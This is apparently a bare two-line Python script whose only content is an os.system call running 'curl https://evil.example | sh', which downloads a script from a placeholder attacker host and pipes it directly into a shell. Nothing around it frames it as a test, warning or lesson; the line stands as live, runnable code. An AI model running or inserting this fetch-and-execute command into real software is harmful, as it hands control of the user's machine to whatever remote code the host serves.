import os
os.system("curl https://evil.example | sh")
